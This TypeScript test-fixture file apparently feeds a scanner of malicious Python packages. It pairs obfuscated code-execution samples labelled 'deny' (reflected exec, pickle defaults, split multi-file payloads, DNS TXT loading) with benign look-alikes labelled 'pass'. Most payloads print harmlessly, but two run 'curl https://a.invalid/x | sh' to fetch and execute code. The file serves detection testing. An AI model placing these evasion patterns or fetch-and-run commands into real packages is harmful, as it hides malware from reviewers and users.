/** What Python says of itself, and what lies in other files of the distribution: inert, the payload prints. */
import { deflateSync } from 'node:zlib';
import type { Shape } from './malicious.js';

const plain = 'print(1)';
const inert = Buffer.from(plain).toString('base64');
const hex = Buffer.from(plain).toString('hex');
const zipped = deflateSync(Buffer.from(plain)).toString('hex');

function init(
  name: string,
  source: string,
  tier: Shape['tier'] = 'deny',
  beside: Shape['files'] = {},
): Shape {
  return { name, tier, files: { 'pkg/__init__.py': source, ...beside } };
}

/** Sinks that are found by asking Python. */
export const reflected: readonly Shape[] = [
  init('eval gives what executes', `import base64\nrun = eval("exec")\nrun(base64.b64decode("${inert}"))\n`),
  init(
    'eval sees the names where it is called',
    `import base64
def start(text):
    return eval("ex" + "ec(text)")
start(base64.b64decode("${inert}"))
`,
  ),
  init(
    'a class that is made by a call',
    `import base64
Step = type("Step", (object,), {"__init__": lambda self, what: exec(what)})
Step(base64.b64decode("${inert}"))
`,
  ),
  init(
    'names out of the code of a function',
    `import base64, builtins
def unused(x):
    return exec(x)
which = unused.__code__.co_names[0]
getattr(builtins, which)(base64.b64decode("${inert}"))
`,
  ),
  init(
    'code out of the constants of a function',
    `import base64
kept = (lambda: "${inert}${inert}").__code__.co_consts
exec(base64.b64decode(kept[0]))
`,
  ),
  init(
    'bytecode in the place of that of a function',
    `def twice(x):
    return x
twice.__code__ = twice.__code__.replace(co_code=b"\\x97\\x00\\x65\\x00\\x64\\x00\\xab\\x01", co_names=("print",))
twice(1)
`,
  ),
  init(
    'a builtin that is found in the directory',
    `import base64, builtins as b
found = vars(b).get(max(n for n in dir(b) if n.startswith("ex") and len(n) == 4))
found(base64.b64decode("${inert}"))
`,
  ),
  init(
    'a builtin of any name is given something decoded',
    `import base64, builtins, json, pkgutil
words = json.loads(pkgutil.get_data(__name__, "words.json"))
getattr(builtins, words["verb"])(bytes.fromhex(words["noun"]))
`,
  ),
  init(
    'an exception of a class of this source says what is executed',
    `import builtins
class Clash(ValueError):
    def __init__(self, key, more):
        self.more = more
def check(pairs):
    for key, more in pairs:
        if key == "b":
            raise Clash(key, more)
try:
    check([("a", "00"), ("b", "${hex}")])
except Clash as clash:
    getattr(builtins, "ex" + "ec")(bytes.fromhex(clash.more))
`,
  ),
  init(
    'modules of Python from any loader',
    `import sys
loader = next(one for one in sys.meta_path if hasattr(one, "load_module"))
loader.load_module("posix").system("curl https://a.invalid/x | sh")
`,
  ),
];

/** Objects that are written as bytes, and commands. */
export const written: readonly Shape[] = [
  init(
    'a pickle that a parameter has when nothing is given',
    `import pickle
BEGIN = b"\\x80\\x04\\x8c\\x08builtins\\x8c\\x04eval\\x93\\x8c\\x08print(1)\\x85R."
def begin(state=BEGIN):
    return pickle.loads(state)
held = begin()
`,
  ),
  init(
    'a pickle of a list',
    `import pickle
def begin(state=b"\\x80\\x04]\\x94(K\\x01K\\x02e."):
    return pickle.loads(state)
held = begin()
`,
    'pass',
  ),
  init(
    'a program that a shell finds by itself',
    `import os\nos.system("$(echo c)url -s https://a.invalid/x | sh")\n`,
  ),
  init(
    'what the shell counts',
    `def lines(os):\n    return os.popen("$(which cat) notes | wc -l")\n`,
    'pass',
  ),
];

/** What is executed stands somewhere else. */
export const elsewhere: readonly Shape[] = [
  init(
    'a constant of another file',
    `import zlib\nfrom ._words import WORDS\nexec(zlib.decompress(bytes.fromhex(WORDS)))\n`,
    'deny',
    { 'pkg/_words.py': `WORDS = "${zipped}"\n` },
  ),
  init(
    'constants of many files',
    `import importlib, zlib
parts = []
for name in ("a", "b"):
    parts.append(importlib.import_module(f"{__name__}.{name}").DATA)
exec(zlib.decompress(bytes.fromhex("".join(parts))))
`,
    'deny',
    { 'pkg/a.py': `DATA = "${zipped.slice(0, 8)}"\n`, 'pkg/b.py': `DATA = "${zipped.slice(8)}"\n` },
  ),
  init(
    'bits that stand in the source itself',
    `def own():
    found = "".join(line.strip("#\\n") for line in open(__file__) if line[0] == "#")
    bits = found.replace(" ", "0").replace("\\t", "1")
    return bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8))
exec(own())
`,
  ),
  init(
    'records of the domain name system',
    `import base64
import dns.resolver
answer = dns.resolver.resolve("settings.a.invalid", "TXT")
exec(base64.b64decode(b"".join(part for one in answer for part in one.strings)))
`,
  ),
];

/** Honest code of the same kind. */
export const neighbours: readonly Shape[] = [
  init('eval of a name', `import subprocess\nkind = eval("int")\nvalue = kind("3")\n`, 'pass'),
  init(
    'a type by its name',
    `import builtins, subprocess
def convert(kind, value):
    return getattr(builtins, kind)(value)
convert("int", "3")
`,
    'pass',
  ),
  init(
    'a class that is made by a call, and only keeps',
    `import subprocess\nPoint = type("Point", (), {"__init__": lambda self, x: None})\nPoint(b"abcdefghijk")\n`,
    'pass',
  ),
  init(
    'names that a function uses',
    `import subprocess
def names(function):
    return function.__code__.co_names + function.__code__.co_varnames
names(names)
`,
    'pass',
  ),
  init(
    'another name and line for the same code',
    `import subprocess
def renamed(function, name):
    function.__code__ = function.__code__.replace(co_name=name, co_firstlineno=1)
    return function
renamed(renamed, "other")
`,
    'pass',
  ),
  init(
    'a table of another file that is decoded and read',
    `import zlib, json, base64\nfrom ._table import TABLE\nrows = json.loads(zlib.decompress(base64.b64decode(TABLE)))\n`,
    'pass',
  ),
  init(
    'an exception of a class of this source',
    `import subprocess
class Failed(Exception):
    def __init__(self, code):
        self.code = code
try:
    raise Failed(3)
except Failed as failed:
    print(type(failed).__name__, failed.code)
`,
    'pass',
  ),
  init(
    'mail servers of a domain',
    `import dns.resolver
def mail(domain):
    return [str(one.exchange) for one in dns.resolver.resolve(domain, "MX")]
`,
    'pass',
  ),
  init(
    'bits that are read as a number',
    `import subprocess\nmode = int(subprocess.os.environ.get("MODE", "755"), 8)\n`,
    'pass',
  ),
];
